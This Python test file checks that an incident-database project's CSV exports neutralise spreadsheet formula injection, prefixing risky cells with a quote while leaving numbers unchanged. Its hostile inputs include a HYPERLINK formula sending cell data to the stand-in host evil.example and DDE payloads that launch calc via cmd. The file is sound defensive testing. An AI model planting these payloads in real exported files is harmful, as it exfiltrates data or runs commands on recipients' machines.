"""No CSV Kolokol writes opens as a formula (OWASP "CSV injection"): a text cell that starts with =, +,
-, @, a tab or a carriage return gets a single quote in front, every text cell is quoted, and numbers
in numeric columns (negative longitudes too) and dates stay as they are."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from kolokol.export import acled, public
from kolokol.export.acled import country_name
from kolokol.export.public import export_public
from kolokol.export.spreadsheet import FORMULA_STARTS, SafeCsvWriter, safe_cell
from kolokol.review import edit_incident
from kolokol.security.roles import SYSTEM
from kolokol.store.db import Database
from tests.export import multisource as ms
from tests.export.public_data import Source, Story, build, org, publish

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0", "-", "="]
EMBEDDED = "released;=cmd|' /C calc'!A0"  # ";" separates cells in Russian and most European locales

# Every CSV the project writes: (columns, numeric columns).
WRITERS = {"acled": (acled.COLUMNS, acled.NUMERIC_COLUMNS), "public": (public.CSV_COLUMNS, public.CSV_NUMERIC)}


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_inert(text: str, numeric: tuple[str, ...]) -> None:
    """No cell would run as a formula: text never starts with a formula character, and a numeric
    column holds a number, nothing, or guarded text."""
    rows = read(text)
    header = rows[0]
    for row in rows:
        for column, cell in zip(header, row, strict=True):
            if column in numeric and is_number(cell):
                continue
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


@pytest.mark.parametrize("writer", sorted(WRITERS))
@pytest.mark.parametrize("payload", HOSTILE)
def test_every_text_column_is_guarded(writer: str, payload: str) -> None:
    columns, numeric = WRITERS[writer]
    buf = io.StringIO()
    out = SafeCsvWriter(buf, columns, numeric=numeric)
    out.writeheader()
    out.writelabels({c: payload for c in columns})
    out.writerow({c: payload for c in columns})
    rows = read(buf.getvalue())
    assert rows[0] == list(columns)
    for row in rows[1:]:
        assert row == ["'" + payload] * len(columns)  # the value kept, behind a quote: text, not a formula
    assert_inert(buf.getvalue(), numeric)


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_numbers_and_dates_are_not_corrupted(writer: str) -> None:
    columns, numeric = WRITERS[writer]
    buf = io.StringIO()
    out = SafeCsvWriter(buf, columns, numeric=numeric)
    out.writeheader()
    row: dict[str, Any] = {c: "2024-03-09" for c in columns}
    values = [-73.99, "-12.5", -3, 0, "", None, "1e-3"]
    for column, value in zip(numeric, values * 3, strict=False):
        row[column] = value
    out.writerow(row)
    raw = buf.getvalue().splitlines()[1]
    assert '"2024-03-09"' in raw and "'" not in raw
    [back] = [dict(zip(columns, r, strict=True)) for r in read(buf.getvalue())[1:]]
    for column, value in zip(numeric, values * 3, strict=False):
        expected = "" if value in ("", None) else str(float(value) if value == "1e-3" else value)
        assert back[column] == expected, column
        if expected:
            assert f",{expected}" in raw or raw.startswith(expected)  # unquoted: a number to a spreadsheet
    assert all(back[c] == "2024-03-09" for c in columns if c not in numeric)


def test_safe_cell() -> None:
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-5") == "'-5" and safe_cell("-5", numeric=True) == -5
    assert safe_cell("-5.5", numeric=True) == -5.5 and safe_cell("-5+5", numeric=True) == "'-5+5"
    assert safe_cell(-5) == -5 and safe_cell(None) == "" and safe_cell(float("nan"), numeric=True) == ""
    assert safe_cell("Article 330") == "Article 330" and safe_cell("'quoted'") == "'quoted'"
    assert safe_cell(" =1+1") == " =1+1"  # a leading space: spreadsheets read text


@pytest.fixture
def hostile_db(sqlite_db: Database) -> tuple[Database, list[int]]:
    stories = []
    for n, payload in enumerate([*HOSTILE, EMBEDDED]):
        stories.append(Story(
            types=["detention"], date=f"2024-03-{n + 1:02d}", country="KZ", place=payload,
            targets=[org(payload)], perpetrators=[{"name": payload, "country": "KZ"}], legal_basis=[payload],
            outcome=payload, sources=[Source(outlet=payload, url="https://news.example/x", published="2024-03-20")]))
    stories.append(Story(types=["threat"], date="2024-04-02", country="PT", place="Lisbon", targets=[org("Ark")],
                         perpetrators=[{"name": "-consulate", "country": "TJ"}],
                         sources=[Source(outlet="@lisboa", published="2024-04-03")]))
    ids = build(sqlite_db, stories)
    publish(sqlite_db, ids)
    return sqlite_db, ids


def test_acled_csv_with_hostile_report_text_and_edits(hostile_db: tuple[Database, list[int]]) -> None:
    db, ids = hostile_db
    edit_incident(db, ids[0], {"place": "=1+1", "outcome": "@SUM(A1)", "perpetrators": "+police | KZ",
                               "legal_basis": "-Article 1", "targets": "=Org | | organization"},
                  user=SYSTEM)
    text, result = ms.export_text(db, "csv", hxl=True)
    assert result.written == len(ids)
    assert_inert(text, acled.NUMERIC_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(text)))[1:]  # after the HXL row
    locations = {r["location"] for r in rows}
    assert {"'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'=1+1", EMBEDDED} <= locations
    assert "'+police (Kazakhstan)" in {r["actor1"] for r in rows}
    assert f"'{HOSTILE[0]}" in {r["source"] for r in rows}
    lisbon = next(r for r in rows if r["country"] == country_name("PT"))
    assert float(lisbon["longitude"]) < 0 and lisbon["actor1"] == "'-consulate (Tajikistan)"
    assert lisbon["source"] == "'@lisboa"
    raw = text.splitlines()
    assert any(f",{lisbon['longitude']}," in line for line in raw)  # the negative number unquoted, unprefixed
    assert f'"{EMBEDDED}"' in text  # quoted: the ";" inside cannot start a cell


def test_public_csv_with_hostile_report_text(hostile_db: tuple[Database, list[int]]) -> None:
    db, ids = hostile_db
    buf = io.StringIO()
    assert export_public(db, "csv", buf).written == len(ids)
    text = buf.getvalue()
    assert_inert(text, public.CSV_NUMERIC)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {"'-2+3", "'@SUM(A1:A9)", "'+1+1"} <= {r["outcome"] for r in rows}
    assert "'=cmd|' /C calc'!A0" in {r["legal_basis"] for r in rows}
    lisbon = next(r for r in rows if r["country"] == "PT")
    assert float(lisbon["longitude"]) < 0 and lisbon["perpetrators"] == "'-consulate (TJ)"
    assert any(f",{lisbon['longitude']}," in line for line in text.splitlines())
